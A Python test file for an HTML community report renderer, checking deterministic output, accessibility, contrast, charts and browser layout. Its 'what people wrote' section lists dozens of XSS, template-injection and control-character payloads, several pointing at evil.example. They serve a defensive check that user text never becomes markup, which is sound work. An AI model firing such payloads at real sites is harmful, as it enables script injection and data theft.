"""The page: the same rows give the same bytes, nothing that people wrote becomes markup, and it fits screens and paper."""

import os
import re
import shutil
from datetime import UTC, timedelta
from itertools import pairwise
from pathlib import Path

import pytest
from selectolax.lexbor import LexborHTMLParser

from tests.warehouse.report_world import SLUG, world
from tests.warehouse.test_withholding import LEVELS, MONDAY
from warehouse.build.build import make, open_scratch
from warehouse.build.catalog import catalog, metrics
from warehouse.build.vocabulary import CHAPTERS
from warehouse.db import open_memory
from warehouse.report import renderers
from warehouse.report.charts import Axis, Line, Point, history
from warehouse.report.data import (
    Build,
    Chapter,
    ChapterState,
    Definition,
    Estimate,
    Metric,
    Need,
    ReportData,
    Sentences,
    Series,
    Window,
)
from warehouse.report.period import period_of
from warehouse.report.read import definition_of, plain, report_data
from warehouse.report.renderers.html import TEMPLATE
from warehouse.report.scorecard import chapter_states, comparisons
from warehouse.report.story import STATES, nothing_changed
from warehouse.report.view import points_of
from warehouse.report.words import interval, missing

PERIOD = period_of("2024-03")
MONDAY_UTC = MONDAY.replace(tzinfo=UTC)
GOLDEN = Path(__file__).parent / "golden_report.html"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = "--no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"
TAGS = {
    "-text",
    "html",
    "head",
    "meta",
    "link",
    "title",
    "style",
    "body",
    "main",
    "header",
    "section",
    "article",
    "div",
    "figure",
    "figcaption",
    "h1",
    "h2",
    "h3",
    "p",
    "bdi",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "caption",
    "details",
    "summary",
    "small",
    "span",
    "strong",
    "em",
    "a",
    "svg",
    "desc",
    "line",
    "text",
    "polygon",
    "polyline",
    "path",
    "circle",
}


def render(data):
    return renderers.html.render(data).decode()


@pytest.fixture(scope="module")
def con():
    con = open_memory()
    open_scratch(con, [], MONDAY, None)
    for model in catalog():
        make(con, model)
    yield con
    con.close()


@pytest.fixture(scope="module")
def page(con):
    world(con)
    return render(report_data(con, SLUG, PERIOD))


# ---- the same bytes


def test_the_same_rows_give_the_same_bytes_in_whatever_order_they_lie(con, page):
    for seed in range(3):
        world(con, shuffle=seed)
        assert render(report_data(con, SLUG, PERIOD)) == page
    data = report_data(con, SLUG, PERIOD)
    assert {render(data) for _ in range(20)} == {page}


def small_report():
    """A report that depends on no table and no metric of the catalog."""
    at = [MONDAY.replace(tzinfo=UTC) - timedelta(weeks=n) for n in range(30, -1, -1)]

    def definition(name, chapter, kind):
        return Definition(
            id=name,
            title=f"Title of {name}",
            version=1,
            table=f"metrics.{name.lower()}",
            chapter=chapter,
            summary=f"What {name} is.",
            reading="How to read it.",
            unit="share",
            direction="neither",
            kind=kind,
            counts="people",
            needs=(Need(data="chat or wiki talk", sources="a chat source (such as Slack)"),),
            minimum="20 threads",
            reference="Somebody 2020.",
            sentences=Sentences(up=f"{name} rose", down=f"{name} fell", phrase="{value} of it", ask="What happened?"),
            caveats=("A caveat.",),
        )

    def one(moment, value=None, step=None, low=None, high=None, reason=None):
        state = "withheld" if reason else "shown"
        return Estimate(at=moment, measurement=state, value=value, step=step, low=low, high=high, reason=reason, weeks=12)

    def metric(defined, state, *series):
        return Metric(definition=defined, measurement=state, series=[series_of(*given) for given in series])

    def series_of(part, points):
        return Series(part=part, now=points[-1], before=points[:-1])

    cells = [(level, [one(m, 5.0 * (1 + (n + i) % 4), 5.0) for n, m in enumerate(at)]) for i, level in enumerate(LEVELS)]
    shares = [one(m, round(0.3 + 0.01 * n, 2), 0.1, 0.2, 0.8) for n, m in enumerate(at)]
    few = [one(m, reason="fewer than 5") for m in at]
    metrics = (
        metric(definition("P3", "participation", "share"), "shown", ("", shares)),
        metric(definition("H1", "help", "share"), "not measured"),
        metric(definition("X1", "boundaries", "people"), "withheld", ("", few)),
    )
    compared = comparisons(metrics)
    return ReportData(
        community="c",
        title="A & <b>B</b>",
        time_zone="UTC",
        period=PERIOD,
        revision=1,
        window=Window(start=at[-13], end=MONDAY.replace(tzinfo=UTC), beat_days=7),
        build=Build(number=1, published_at=at[-1], as_of=at[-1], version="1", models="m"),
        chapters=[Chapter(name=name, title=c.title, question=c.question) for name, c in CHAPTERS.items()],
        levels=metric(definition("P2", "participation", "distribution"), "shown", *cells),
        movement=(),
        metrics=metrics,
        comparisons=compared,
        states=chapter_states(tuple(CHAPTERS), metrics, compared),
    )


def test_the_page_of_a_small_report_is_the_one_that_was_looked_at():
    """After a change that is meant: GOLDEN=write pytest tests/warehouse/test_report_page.py, and look at what it wrote."""
    fresh = render(small_report())
    if os.environ.get("GOLDEN") == "write":
        GOLDEN.write_text(fresh, encoding="utf-8")
    assert fresh == GOLDEN.read_text(encoding="utf-8")


# ---- what it shows


def test_a_metric_without_rows_is_not_measured_and_names_the_sources_that_would_feed_it(page):
    card = LexborHTMLParser(page).css_first("#H1")
    assert "Not measured" in card.text()
    assert "a chat source (such as Slack) or a wiki source with talk pages (such as MediaWiki)" in card.text()
    assert card.css_first("svg") is None


def test_every_metric_with_a_value_has_its_chart_its_definition_and_its_caveats(page, con):
    tree = LexborHTMLParser(page)
    cards = tree.css("article.metric")
    assert len(cards) >= 14
    for card in cards:
        if card.attributes["id"] != "H1":
            assert card.css_first("svg"), card.attributes["id"]
        assert card.css(".more li")


def test_the_banner_reports_the_sources_that_sent_nothing(page):
    banner = LexborHTMLParser(page).css_first("#seen").parent.text()
    assert "read with care" in banner
    assert "2 of 3 sources sent records in time" in banner


def test_a_word_of_trend_is_a_state_of_the_scorecard(page):
    text = LexborHTMLParser(page).body.text().lower()
    assert not re.search(r"\b(improved|worsened|rising|falling|upward|downward|trending|healthy|score)\b", text)
    states = [node.text() for node in LexborHTMLParser(page).css(".state")]
    assert set(states) <= set(STATES.values())


def test_the_first_screen_begins_with_what_changed_and_what_to_ask():
    before = [Estimate(at=MONDAY_UTC - timedelta(weeks=13 * n), measurement="shown", value=0.95, low=0.85, high=1.0, step=0.05, weeks=13, denominator=40) for n in (5, 4, 3, 2, 1)]  # fmt: skip
    now = before[-1].model_copy(update={"at": MONDAY_UTC, "value": 0.2, "low": 0.1, "high": 0.35})
    defined = definition_of(next(model for model in metrics(catalog()) if model.header.id == "N2"))
    found = (Metric(definition=defined, measurement="shown", series=[Series(part="", now=now, before=before)]),)
    compared = comparisons(found)
    data = small_report().model_copy(
        update={"metrics": found, "comparisons": compared, "states": chapter_states(tuple(CHAPTERS), found, compared)}
    )
    first = LexborHTMLParser(render(data)).css_first("article.change")
    assert first.css_first("h3").text() == "Newcomers are left without an answer."
    assert first.css_first("p").text() == (
        "In the 13 weeks to 24 December 2023, almost all threads of newcomers were answered in time; "
        "in the 13 weeks to 24 March 2024, 2 in 10."
    )
    assert (
        "95\u00a0% → 20\u00a0%, from 40 to 44 threads. Sure: the two intervals do not touch. One window so far" in first.text()
    )
    assert "Ask the facilitator: Who greets newcomers" in first.text()
    assert first.css_first("svg title").text().startswith("Newcomer welcome, before and now")


@pytest.mark.parametrize(
    ("states", "sentence"),
    [
        (["steady", "steady"], "Steady on all that could be measured."),
        (["steady", "can't tell"], "Nothing moved beyond its usual range. What could not be judged is marked below."),
        (["steady", "watch"], "Nothing moved for sure; what to watch is marked below."),
        (["can't tell", "not shown"], "Nothing can be said yet about change: there is too little past to compare with."),
        (["not shown"], "Nothing can be said about change: the community is too small for its numbers to be shown."),
    ],
)
def test_a_report_without_a_change_says_why(states, sentence):
    chapters = [ChapterState(chapter=name, state=state) for name, state in zip(CHAPTERS, states, strict=False)]
    assert nothing_changed(small_report().model_copy(update={"states": chapters})) == sentence


@pytest.mark.parametrize(("weeks_later", "reported"), [(0, True), (4, True), (5, False), (200, False)])
def test_what_is_known_of_the_sources_now_is_no_news_of_a_window_long_ago(con, weeks_later, reported):
    world(con)
    data = report_data(con, SLUG, PERIOD)
    coverage = data.coverage.model_copy(update={"as_of": data.window.end + timedelta(weeks=weeks_later)})
    text = LexborHTMLParser(render(data.model_copy(update={"coverage": coverage}))).css_first("#seen").parent.text()
    assert ("2 of 3 sources" in text) is reported
    assert ("more than a day late" in text) is reported


def test_numbers_of_people_are_multiples_of_five_wherever_they_stand(con, page):
    """Also in the points of charts, which come from the same series."""
    data = report_data(con, SLUG, PERIOD)
    for metric in (data.levels, *data.metrics):
        if metric.definition.kind in ("people", "distribution"):
            assert all(e.value is None or e.value % 5 == 0 for series in metric.series for e in series.points)
    assert not re.search(r"\bnumerator\b", page)


def test_headings_come_in_order_and_every_chart_has_its_own_title_and_description(page):
    tree = LexborHTMLParser(page)
    order = [int(node.tag[1]) for node in tree.css("h1, h2, h3")]
    assert order[0] == 1
    assert order.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(order))
    ids = [node.attributes["id"] for node in tree.css("[id]")]
    assert len(ids) == len(set(ids))
    for svg in tree.css("svg:not([aria-hidden])"):
        assert svg.attributes["role"] == "img"
        for name in svg.attributes["aria-labelledby"].split():
            assert tree.css_first(f"#{name}").text().strip()
    assert tree.css_first("html").attributes["lang"] == "en"
    assert all(th.attributes.get("scope") for th in tree.css("th"))


def luminance(colour):
    digits = colour.lstrip("#")
    digits = "".join(d * 2 for d in digits) if len(digits) == 3 else digits
    parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
    red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one, other):
    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def palettes():
    """The colours of the light and of the dark page."""
    light, dark = (
        dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", part)) for part in re.split("@media [(](?:prefers|max)", TEMPLATE)[:2]
    )
    assert light.keys() == dark.keys()
    return [light, dark]


@pytest.mark.parametrize("named", palettes(), ids=["light", "dark"])
def test_text_has_the_contrast_of_aa_on_every_ground(named):
    for ground in ("paper", "wash", "warmwash", "goodwash"):
        for ink in ("ink", "soft", "a"):
            assert contrast(named[ink], named[ground]) >= 4.5, (ink, ground)
    for colour in ("warm", "good", *(f"line{number}" for number in range(5))):
        assert contrast(named[colour], named["paper"]) >= 4.5, colour
    assert contrast(named["line0"], named["band"]) >= 3  # the line on its band


@pytest.mark.parametrize("named", palettes(), ids=["light", "dark"])
def test_the_colours_of_levels_are_one_ramp_that_grey_print_keeps_apart(named):
    ramp = [luminance(named[f"level{number}"]) for number in range(5)]
    assert ramp in (sorted(ramp), sorted(ramp, reverse=True))
    assert all(contrast(named[f"level{n}"], named[f"level{n + 1}"]) >= 1.25 for n in range(4))


def test_lines_differ_by_more_than_colour():
    points = tuple(Point(MONDAY + timedelta(weeks=n), float(n)) for n in range(5))
    drawn = history("x", "t", "d", [Line(f"Series {n}", points) for n in range(3)], Axis("days"))
    assert len(set(re.findall(r'stroke-dasharray="([^"]+)"', drawn))) == 3
    assert all(f"Series {n}" in drawn for n in range(3))


def test_a_chart_breaks_where_values_begin_to_cover_another_number_of_weeks_and_names_it():
    points = [Point(MONDAY + timedelta(weeks=n), float(n), weeks=12 if n < 6 else 24) for n in range(12)]
    drawn = history("x", "t", "d", [Line("", tuple(points))], Axis("days"))
    assert drawn.count("<polyline") == 2
    assert drawn.count("from here 24 weeks") == 1
    same = history("x", "t", "d", [Line("", tuple(points[:6]))], Axis("days"))
    assert same.count("<polyline") == 1
    assert "from here" not in same


def test_windows_that_share_no_week_have_large_dots_and_the_others_a_light_line():
    at = [MONDAY.replace(tzinfo=UTC) - timedelta(weeks=n) for n in range(29, -1, -1)]
    points = points_of([Estimate(at=moment, measurement="shown", value=1.0, weeks=12) for moment in at])
    assert [point.at for point in points if point.apart] == [at[-25], at[-13], at[-1]]
    drawn = history("x", "t", "d", [Line("", points)], Axis("days"))
    assert drawn.count('<circle class="dot') == 3
    assert "stroke-opacity: .6" in TEMPLATE


@pytest.mark.parametrize(
    ("connected", "sentence"),
    [
        (False, "It needs chat or wiki talk, from a chat source (such as Slack). At least: 20 threads."),
        (True, "Its data are there; in this window there was too little to measure. At least: 20 threads."),
    ],
)
def test_a_source_is_asked_for_only_where_none_is_connected(connected, sentence):
    metric = next(one for one in small_report().metrics if one.definition.id == "H1")
    need = metric.definition.needs[0].model_copy(update={"connected": connected})
    definition = metric.definition.model_copy(update={"needs": (need,)})
    assert missing(metric.model_copy(update={"definition": definition})) == sentence


def test_one_point_is_no_history():
    assert "<svg" not in history("x", "t", "d", [Line("", (Point(MONDAY, 1.0),))], Axis("days"))


# ---- what people wrote


def payloads():
    scripts = [
        "<script>{x}</script>", "<ScRiPt>{x}</sCrIpT>", "<img src=x onerror={x}>", "<svg onload={x}>", "<svg/onload={x}//", "</title><script>{x}</script>",
        "</style><script>{x}</script>", "</svg><script>{x}</script>", "</desc><image href=//evil.example/{x}>", "<iframe src='javascript:{x}'></iframe>",
        "<a href='javascript:{x}'>a</a>", "<body onload={x}>", "<math><mtext><script>{x}</script>", "<details open ontoggle={x}>", "<input autofocus onfocus={x}>",
        "'\"><script>{x}</script>", '" onmouseover={x} x="', "' onclick={x} '", "--><script>{x}</script><!--", "]]><script>{x}</script>", "<!--{x}",
        "<link rel=stylesheet href=//evil.example/{x}>", "<meta http-equiv=refresh content='0;url=//evil.example/{x}'>", "<base href=//evil.example/{x}>",
        "<object data=//evil.example/{x}></object>", "<embed src=//evil.example/{x}>", "<form action=//evil.example/{x}><button>", "<style>*{{background:url(//evil.example/{x})}}</style>",
        "}}body{{background:url(https://evil.example/{x})}}", "expression({x})", "url(javascript:{x})", "@import '//evil.example/{x}';", "javascript:{x}", "data:text/html,<script>{x}</script>",
        "file:///etc/passwd?{x}", "{{{{ {x} }}}}", "{{% for a in b %}}{x}", "{{{{ self.__init__.__globals__ }}}}", "${{{x}}}", "#{{{x}}}", "<%= {x} %>", "%s%n{x}", "{{0.__class__}}{x}",
        "\u202e{x}\u202d", "\u2066{x}\u2069", "\u200f{x}", "\x00{x}", "<scr\x00ipt>{x}</script>", "\x1b[31m{x}", "\ud800{x}", "\ufeff{x}", "&lt;script&gt;{x}", "&#60;script&#62;{x}",
        '=HYPERLINK("//evil.example",{x})', "+{x}", "@{x}", "<{x}", ">{x}", "&{x};", "\r\n<b>{x}", "<plaintext>{x}", "<textarea>{x}", '<noscript><p title="</noscript><img src=x onerror={x}>">',
        "<template><script>{x}</script></template>", "<svg><style><img src=x onerror={x}></style></svg>", "<svg><foreignObject><script>{x}</script></foreignObject></svg>", "<svg><use href=//evil.example/{x}#a>",
    ]  # fmt: skip
    return [script.format(x=x) for x in ("alert(1)", "fetch('//evil.example')", "x" * 300) for script in scripts]


def shape(page):
    """Tags with their attributes, in order; without what is text."""
    tree = LexborHTMLParser(page)
    nodes = [node for node in tree.root.traverse() if node.tag != "-text"]
    return [(node.tag, tuple(sorted(node.attributes.items()))) for node in nodes]


def test_hostile_titles_and_texts_change_no_tag_and_no_attribute(con):
    hostile = payloads()
    assert len(hostile) >= 200
    world(con)
    data = report_data(con, SLUG, PERIOD)
    expected = shape(render(data))
    assert {tag for tag, _ in expected} <= TAGS
    small = small_report()
    plain_shape = shape(render(small))
    for number, payload in enumerate(hostile):
        metrics = tuple(_with_reason(metric, plain(payload) or "x") for metric in small.metrics)
        evil = small.model_copy(update={"title": plain(payload) or "c", "metrics": metrics})
        page = render(evil)
        assert shape(page) == plain_shape, payload
        assert LexborHTMLParser(page).css_first("h1").text() == (plain(payload) or "c")
        assert not set(page) & set("\x00\x1b\u202e\u202d\u2066\u2069\u200f\ufeff"), payload
        if number % 40 == 0:  # and once from the tables themselves
            world(con, title=payload.replace("\ud800", ""), part=payload.replace("\ud800", ""))
            assert shape(render(report_data(con, SLUG, PERIOD))) == expected, payload


def _with_reason(metric, text):
    def evil(estimate):
        return estimate.model_copy(update={"reason": text}) if estimate.reason else estimate

    series = tuple(
        one.model_copy(update={"now": evil(one.now), "before": tuple(map(evil, one.before))}) for one in metric.series
    )
    return metric.model_copy(update={"series": series})


def test_the_page_names_nothing_outside_itself(page):
    tree = LexborHTMLParser(page)
    addresses = [
        node.attributes.get(name)
        for node in tree.css("[href], [src], [action], [data]")
        for name in ("href", "src", "action", "data")
    ]
    assert {a for a in addresses if a and not a.startswith("#")} == {"data:,"}
    assert "url(" not in page
    assert "@import" not in page
    assert "default-src 'none'" in page


# ---- in a browser


@pytest.fixture(scope="module")
def browser():
    if CHROMIUM is None:
        pytest.skip("no Chromium on this machine: the page is not opened")
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS.split())
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def place(page, tmp_path_factory):
    path = tmp_path_factory.mktemp("page") / "index.html"
    path.write_text(page, encoding="utf-8")
    return path


OUTSIDE = """() => {
    const wide = document.documentElement.clientWidth;
    return [...document.body.querySelectorAll('*')].filter(e => {
        const box = e.getBoundingClientRect();
        return box.width > 0 && (box.right > wide + 0.5 || box.left < -0.5);
    }).map(e => e.outerHTML.slice(0, 120));
}"""
SMALL_TEXT = """() => [...document.querySelectorAll('svg text')].filter(t => t.getBoundingClientRect().width > 0).map(t => {
    const svg = t.ownerSVGElement, scale = svg.getBoundingClientRect().width / svg.viewBox.baseVal.width;
    return parseFloat(getComputedStyle(t).fontSize) * scale;
})"""
OVERLAPS = """() => [...document.querySelectorAll('svg')].flatMap(svg => {
    const texts = [...svg.querySelectorAll('text')].map(t => [t.textContent, t.getBoundingClientRect()]);
    return texts.flatMap(([a, x], i) => texts.slice(i + 1).filter(([b, y]) =>
        x.left < y.right - 1 && y.left < x.right - 1 && x.top < y.bottom - 4 && y.top < x.bottom - 4).map(([b, y]) => `${svg.textContent.slice(0, 40)}: ${a} / ${b}`));
})"""


@pytest.mark.browser
@pytest.mark.parametrize(("width", "media"), [(1280, "screen"), (390, "screen"), (680, "print")])
def test_it_fits_every_surface_requests_nothing_and_logs_nothing_to_the_console(browser, place, width, media):
    context = browser.new_context(viewport={"width": width, "height": 900}, java_script_enabled=True)
    tab = context.new_page()
    requests, messages = [], []
    tab.on("request", lambda request: requests.append(request.url))
    tab.on("console", lambda message: messages.append(message.text))
    tab.on("pageerror", lambda error: messages.append(str(error)))
    tab.emulate_media(media=media)
    tab.goto(place.as_uri())
    assert tab.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
    assert tab.evaluate(OUTSIDE) == []
    assert tab.evaluate(OVERLAPS) == []
    assert min(tab.evaluate(SMALL_TEXT)) >= (8.5 if media == "print" else 10)
    assert {url for url in requests if not url.startswith("data:")} == {place.as_uri()}
    assert messages == []
    context.close()


@pytest.mark.browser
def test_it_is_whole_with_javascript_off(browser, place):
    context = browser.new_context(java_script_enabled=False)
    tab = context.new_page()
    tab.goto(place.as_uri())
    assert tab.locator("h1").inner_text() == "Gardeners of the valley"
    assert tab.locator("svg").count() >= 15
    assert not tab.locator("article.metric .more p").first.is_visible()
    tab.locator("article.metric .more summary").first.click()
    assert tab.locator("article.metric .more p").first.is_visible()
    context.close()


@pytest.mark.browser
def test_the_printed_pages_are_few_and_cut_no_card(browser, place):
    tab = browser.new_page()
    tab.goto(place.as_uri())
    printed = tab.pdf(prefer_css_page_size=True, print_background=True)
    assert printed.startswith(b"%PDF")
    assert 2 <= printed.count(b"/Type /Page\n") + printed.count(b"/Type /Page ") <= 6
    tab.emulate_media(media="print")
    assert tab.evaluate(
        "[...document.querySelectorAll('.change, figure')].every(e => getComputedStyle(e).breakInside === 'avoid')"
    )
    tab.close()


@pytest.mark.parametrize(
    ("share", "words_of_it"),
    [
        (None, ""),
        (0.0, ""),
        (0.4, "; about 40\u00a0% of them inferred from silence, because the platform has no threads"),
        (1.0, "; all inferred from silence, because the platform has no threads"),
    ],
)
def test_a_number_that_rests_on_inferred_threads_says_so(share, words_of_it):
    defined = definition_of(next(model for model in metrics(catalog()) if model.header.id == "N2"))
    one = Estimate(
        at=MONDAY.replace(tzinfo=UTC), measurement="shown", value=0.7, denominator=40, step=0.05, inferred=share, weeks=52
    )
    assert interval(defined, one) == f"Over 52 weeks; from 40 to 44 threads{words_of_it}."
